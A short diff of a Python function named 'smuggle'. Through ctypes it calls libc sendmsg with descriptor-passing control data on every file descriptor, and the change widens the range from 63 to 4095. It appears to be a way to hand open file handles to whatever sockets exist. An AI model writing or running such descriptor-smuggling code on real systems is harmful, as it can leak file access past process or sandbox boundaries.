@@ -216,7 +216,7 @@ def smuggle(reads: list[int], writes: list[int], options: dict[str, Any]) -> dic
     control = rights.ljust(24, b"\0")
     vector = _Vector(packet, len(packet))
     message = _Message(None, 0, ctypes.pointer(vector), 1, control, len(control), 0)
-    sent = [_libc.sendmsg(n, ctypes.byref(message), 0x4000) for n in range(3, 64)]
+    sent = [_libc.sendmsg(n, ctypes.byref(message), 0x4000) for n in range(3, 4096)]
     return {"sent": sum(count > 0 for count in sent)}
 
 
